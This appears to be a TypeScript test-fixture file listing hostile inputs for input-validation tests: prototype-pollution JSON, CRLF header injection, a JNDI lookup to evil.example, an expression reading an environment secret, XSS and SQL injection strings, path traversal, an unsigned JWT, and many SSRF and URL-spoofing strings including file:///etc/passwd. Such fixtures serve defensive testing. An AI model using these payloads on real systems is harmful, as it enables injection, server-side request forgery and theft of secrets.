/** A value, and what it is in words. */
export type Named<T> = readonly [name: string, value: T];

const object = (json: string) => JSON.parse(json) as unknown;

/** What is no text at all. */
export const noTexts: ReadonlyArray<Named<unknown>> = [
	['NaN', Number.NaN],
	['Infinity', Infinity],
	['1e308', 1e308],
	['-1', -1],
	['true', true],
	['false', false],
	['a list', ['a']],
	['an empty list', []],
	['an object', { a: 1 }],
	['an object with toString', { toString: 1, valueOf: 1 }],
	['an object without a prototype', Object.create(null)],
	['__proto__ in JSON', object('{"__proto__":{"polluted":true}}')],
	['constructor in JSON', object('{"constructor":{"prototype":{"polluted":true}}}')],
	['an invalid date', new Date(Number.NaN)],
	['a BigInt', 10n],
	['a symbol', Symbol('s')],
	['a function', () => 'text'],
	['a Buffer', Buffer.from('text')],
];

const long = 1_000_000;

/** Texts that break out of, or break, something. */
export const texts: ReadonlyArray<Named<string>> = [
	...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype', 'then'].map(
		(name): Named<string> => [`the name ${name}`, name],
	),
	...['a', ' ', '/', '{', '-----BEGIN A-----', '\u202e', '\u{1f600}', '%41', '.'].map(
		(part): Named<string> => [`1 MB of ${JSON.stringify(part)}`, part.repeat(long / part.length)],
	),
	['4,000 characters', 'b'.repeat(4_000)],
	['200,000 characters', 'c'.repeat(200_000)],
	['NUL', 'evil\0value'],
	['a bell', 'evil\u0007value'],
	['CRLF and a header', 'evil\r\nX-Evil: 1'],
	['a line break', 'evil\nvalue'],
	['a next-line control', 'evil\u0085value'],
	['a line separator', 'evil\u2028value'],
	['half a character', 'evil\ud800value'],
	['the other half', '\udc00evil'],
	['right to left', '\u202eevilvalue\u202c'],
	['a mark of direction', 'evil\u200fvalue'],
	['zero width', 'evil\u200bvalue'],
	['a letter that grows', 'İİİİİİİİ'],
	['a byte order mark', '\ufeffevil value'],
	['beyond Latin-1', 'żółć 漢字 value'],
	['an expression', '={{ $env.SECRET }}'],
	['JNDI', '${jndi:ldap://evil.example/a}'],
	['HTML', '<script>alert(1)</script>'],
	['SQL', "' or '1'='1"],
	['percent-encoded control characters', '%00%0d%0aX-Evil:%201'],
	['two dots', '../../..'],
	['dots and backslashes', '..\\..\\windows'],
	['JSON', '{"a":"b"}'],
	['JSON of a header with CRLF', '{"X-Key":"evil\\r\\nX-Evil: 1"}'],
	['JSON of __proto__', '{"__proto__":{"polluted":"yes"}}'],
	[
		'JSON with many names',
		JSON.stringify(Object.fromEntries([...Array(200).keys()].map((n) => [`X-${n}`, 'v']))),
	],
	['a JWT without a signature', 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJldmlsIn0.'],
];

/**
 * URLs that lead elsewhere, or that parsers read in several ways.
 * @param home port of the host that is meant
 * @param foreign port of another one
 */
export const urls = (home: number, foreign: number): ReadonlyArray<Named<string>> =>
	[
		`http://user:password1@127.0.0.1:${home}`,
		'http://user:password1@127.0.0.1:port',
		'https://user:password1@evil.example/',
		`http://127.0.0.1:${home}@127.0.0.1:${foreign}/`,
		`http://127.0.0.1:${foreign}\\@127.0.0.1:${home}/`,
		`https://graph.microsoft.com@127.0.0.1:${foreign}/`,
		`http://127.0.0.1:${home}#@127.0.0.1:${foreign}/`,
		`http://127.0.0.1:${home}?@127.0.0.1:${foreign}/`,
		`http:\\\\127.0.0.1:${home}\\path`,
		`http:127.0.0.1:${home}`,
		`//127.0.0.1:${foreign}/`,
		`\\\\127.0.0.1:${foreign}\\share`,
		`http://127.0.0.1:${home}/../../..`,
		`http://127.0.0.1:${home}/%2e%2e/%2e%2e/`,
		`http://127.0.0.1:${home}/#fragment`,
		`http://127.0.0.1:${home}/;a=b?c=d`,
		`http://127.0.0.1:${home}////`,
		`\thttp://127.0.0.1:${home}/`,
		`http://127.0.0.1:${home}\n.evil.example/`,
		`http://[::ffff:127.0.0.1]:${home}/`,
		'http://[::1]:1/',
		'http://[::1',
		'http://2130706433:1/',
		'http://0x7f.1:1/',
		'http://017700000001:1/',
		'http://127.1:1/',
		'http://127.0.0.1:1/',
		'http://127.0.0.1:0/',
		'http://127.0.0.1:99999/',
		'http://127.0.0.1:port/',
		'http://%31%32%37.0.0.1:1/',
		'http://1.2.3.4.5/',
		'http://256.256.256.256/',
		'https://login.micrоsoftonline.com',
		'https://graph.microsoft.com.evil.example',
		'https://evil.example/graph.microsoft.com',
		'http://localhost.evil.example/',
		'http://127.0.0.1.evil.example/',
		'http://169.254.169.254.evil.example/',
		'https://ＧＲＡＰＨ.microsoft.com/',
		'https://graph。microsoft。com/',
		'https://xn--zzzzzzzz--/',
		'https://a..b/',
		`https://${'a'.repeat(70)}.example/`,
		`https://${'a.'.repeat(200)}example/`,
		'http://',
		'https://',
		'https:///evil.example',
		'https://:443',
		'file:///etc/passwd',
		'data:text/plain,secret',
		'javascript:alert(1)',
		'ftp://127.0.0.1/',
		'ws://127.0.0.1/',
		'blob:https://evil.example/1',
		'about:blank',
	].map((url): Named<string> => [`the URL ${JSON.stringify(url.slice(0, 60))}`, url]);
